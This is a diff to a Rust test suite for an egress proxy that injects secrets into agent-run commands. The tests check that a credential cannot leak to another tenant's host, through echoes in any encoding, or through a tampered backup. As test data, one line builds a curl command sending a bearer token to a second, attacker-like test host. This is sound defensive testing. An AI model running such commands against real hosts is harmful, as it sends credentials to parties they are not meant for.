@@ -10,7 +10,10 @@ use std::sync::{Arc, Mutex};
 use base64::Engine as _;
 use shared::locks::Lock;
 use testkit::https::{Received, TestCa, Upstream};
-use testkit::tasks::{Ran, environs_holding, files_holding, run_commands, set_secret};
+use testkit::tasks::{
+    Ran, egress_cluster, environs_holding, files_holding, have_netns, run_commands, set_secret,
+    try_start_commands,
+};
 use testkit::{BrainOptions, Cluster, text};
 
 /// A value with characters every encoding changes: `/`, `"`, `+`, a space, `=`, `&`.
@@ -18,23 +21,6 @@ const SECRET: &str = "sk/li\"ve+7f3a 9c2e=51d8&4b06Q";
 const API: &str = "api.upstream.test";
 const OTHER: &str = "other.upstream.test";
 const CURL: &str = "curl -sS --max-time 30";
-
-fn root() -> bool {
-    // SAFETY: plain getter.
-    unsafe { libc::geteuid() == 0 }
-}
-
-/// Whether commands can be put behind the proxy here; otherwise says why the test is skipped.
-fn have_egress(test: &str) -> bool {
-    if !root() {
-        testkit::skip(
-            "netns",
-            &format!("{test} needs a root worker to give commands their own network namespace"),
-        );
-        return false;
-    }
-    true
-}
 
 /// Every form in which `value` could be read back: the bytes themselves, percent-encoded
 /// (`+` or `%20` for a space, either case of hex), Base64 (standard and URL-safe, at each of
@@ -88,27 +74,6 @@ fn assert_no_leak(what: &str, text: &str) {
     assert!(l.is_empty(), "{what} holds the value as {l:?}:\n{text}");
 }
 
-/// A cluster whose brain trusts the test CA and resolves the test's names to loopback.
-fn cluster(ca: &TestCa, names: &[&str]) -> Cluster {
-    let ca_file = std::env::temp_dir().join(format!(
-        "tether-attacks-ca-{}-{:x}.pem",
-        std::process::id(),
-        rand::random::<u32>()
-    ));
-    std::fs::write(&ca_file, ca.pem()).unwrap();
-    let resolve: String = names
-        .iter()
-        .map(|n| format!("\"{n}\" = \"127.0.0.1\"\n"))
-        .collect();
-    Cluster::start_with(BrainOptions {
-        config: Some(format!(
-            "[egress]\nupstream_ca = [{:?}]\n[egress.resolve]\n{resolve}",
-            ca_file.display().to_string()
-        )),
-        ..Default::default()
-    })
-}
-
 /// The bearer token an upstream received, if any.
 fn bearer(r: &Received) -> Option<String> {
     r.header("authorization")
@@ -132,7 +97,7 @@ fn assert_clean(c: &Cluster, w: &testkit::Worker, ran: &[Ran]) {
 /// would reach whichever tenant the command names.
 #[test]
 fn a_command_cannot_send_the_credential_to_another_tenant_by_host() {
-    if !have_egress("a_command_cannot_send_the_credential_to_another_tenant_by_host") {
+    if !have_netns("a_command_cannot_send_the_credential_to_another_tenant_by_host") {
         return;
     }
     let ca = TestCa::new().unwrap();
@@ -146,7 +111,7 @@ fn a_command_cannot_send_the_credential_to_another_tenant_by_host() {
         }),
     )
     .unwrap();
-    let c = cluster(&ca, &[API]);
+    let c = egress_cluster(&ca, &[API], "");
     let w = c.join_worker("host-attack");
     let pa = api.port;
     let port = pa.to_string();
@@ -202,7 +167,7 @@ fn a_command_cannot_send_the_credential_to_another_tenant_by_host() {
 /// which the brain does not see).
 #[test]
 fn a_placeholder_outside_its_injection_is_refused_and_nothing_goes_upstream() {
-    if !have_egress("a_placeholder_outside_its_injection_is_refused_and_nothing_goes_upstream") {
+    if !have_netns("a_placeholder_outside_its_injection_is_refused_and_nothing_goes_upstream") {
         return;
     }
     let ca = TestCa::new().unwrap();
@@ -226,7 +191,7 @@ fn a_placeholder_outside_its_injection_is_refused_and_nothing_goes_upstream() {
         Arc::new(move |_: &Received| (200, dump.locked().join("\n").into_bytes())),
     )
     .unwrap();
-    let c = cluster(&ca, &[API, OTHER]);
+    let c = egress_cluster(&ca, &[API, OTHER], "");
     let w = c.join_worker("swap-attack");
     let (pa, pb) = (api.port, other.port);
     let port = pa.to_string();
@@ -282,7 +247,7 @@ fn a_placeholder_outside_its_injection_is_refused_and_nothing_goes_upstream() {
 /// it for a `Range`, and in a trailer.
 #[test]
 fn an_echo_of_the_value_in_any_encoding_is_masked() {
-    if !have_egress("an_echo_of_the_value_in_any_encoding_is_masked") {
+    if !have_netns("an_echo_of_the_value_in_any_encoding_is_masked") {
         return;
     }
     use std::io::Write as _;
@@ -354,7 +319,7 @@ fn an_echo_of_the_value_in_any_encoding_is_masked() {
         }),
     )
     .unwrap();
-    let c = cluster(&ca, &[API]);
+    let c = egress_cluster(&ca, &[API], "");
     let w = c.join_worker("echo-attack");
     let pa = api.port;
     let port = pa.to_string();
@@ -411,7 +376,7 @@ fn an_echo_of_the_value_in_any_encoding_is_masked() {
 /// attacker's host, restored, and a task asks for it.
 #[test]
 fn a_backup_edited_to_rebind_a_secret_does_not_open() {
-    if !have_egress("a_backup_edited_to_rebind_a_secret_does_not_open") {
+    if !have_netns("a_backup_edited_to_rebind_a_secret_does_not_open") {
         return;
     }
     let ca = TestCa::new().unwrap();
@@ -422,7 +387,7 @@ fn a_backup_edited_to_rebind_a_secret_does_not_open() {
         Arc::new(|_: &Received| (200, b"thanks".to_vec())),
     )
     .unwrap();
-    let mut c = cluster(&ca, &[API, OTHER]);
+    let mut c = egress_cluster(&ca, &[API, OTHER], "");
     let port = api.port.to_string();
     set_secret(
         &c,
@@ -469,32 +434,7 @@ fn a_backup_edited_to_rebind_a_secret_does_not_open() {
         "{CURL} -H \"Authorization: Bearer $API_TOKEN\" https://{OTHER}:{pb}/"
     )];
     // Either the task is refused at its start, or its command's request is refused.
-    let mut turns = vec![testkit::replay_turn(
-        1,
-        "run_command",
-        serde_json::json!({"command": commands[0]}),
-    )];
-    turns.push(testkit::replay_turn(
-        2,
-        "finish",
-        serde_json::json!({"summary": "done"}),
-    ));
-    let file = c.dir.join("rebind.jsonl");
-    std::fs::write(&file, turns.join("\n")).unwrap();
-    let model = format!("replay:{}", file.display());
-    let run = c.brain_cli(&[
-        "run",
-        "--detach",
-        "--model",
-        &model,
-        "--permission",
-        "full",
-        "--worker",
-        &w.id,
-        "--secret",
-        "api",
-        "use the api",
-    ]);
+    let run = try_start_commands(&c, &w.id, &["--secret", "api"], &commands, None);
     let mut told = format!("{}\n{}", text(&listed), text(&run));
     if run.status.success() {
         let task = String::from_utf8_lossy(&run.stdout).trim().to_string();
@@ -577,32 +517,9 @@ fn the_delivery_token_goes_to_no_host_it_is_not_for() {
         ("TETHER_GIT_TOKEN".to_string(), TOKEN.to_string()),
         ("GIT_SSL_CAINFO".to_string(), ca_file.display().to_string()),
     ];
-    let transcript = std::env::temp_dir().join(format!(
-        "tether-attacks-finish-{}-{:x}.jsonl",
-        std::process::id(),
-        rand::random::<u32>()
-    ));
-    std::fs::write(
-        &transcript,
-        testkit::replay_turn(1, "finish", serde_json::json!({"summary": "done"})),
-    )
-    .unwrap();
-    let model = format!("replay:{}", transcript.display());
-    let run = |c: &Cluster, w: &str, url: &str| {
-        c.brain_cli(&[
-            "run",
-            "--detach",
-            "--model",
-            &model,
-            "--permission",
-            "full",
-            "--worker",
-            w,
-            "--git",
-            url,
-            "clone it",
-        ])
-    };
+    // A task that only finishes: the clone at its start is what is tried.
+    let run =
+        |c: &Cluster, w: &str, url: &str| try_start_commands(c, w, &["--git", url], &[], None);
 
     // The default policy: only https and ssh, and no internal addresses.
     let c = Cluster::start_with(BrainOptions {
@@ -680,7 +597,7 @@ fn the_delivery_token_goes_to_no_host_it_is_not_for() {
 /// the same front).
 #[test]
 fn direct_egress_reaches_neither_internal_addresses_nor_another_name() {
-    if !have_egress("direct_egress_reaches_neither_internal_addresses_nor_another_name") {
+    if !have_netns("direct_egress_reaches_neither_internal_addresses_nor_another_name") {
         return;
     }
     const FRONT: &str = "front.upstream.test";
@@ -694,7 +611,7 @@ fn direct_egress_reaches_neither_internal_addresses_nor_another_name() {
     )
     .unwrap();
     // FRONT is pinned to loopback by the operator's [egress.resolve]: allowed by name.
-    let c = cluster(&ca, &[FRONT]);
+    let c = egress_cluster(&ca, &[FRONT], "");
     let w = c.join_worker("direct-attack");
     let pa = api.port;
     let anything = [
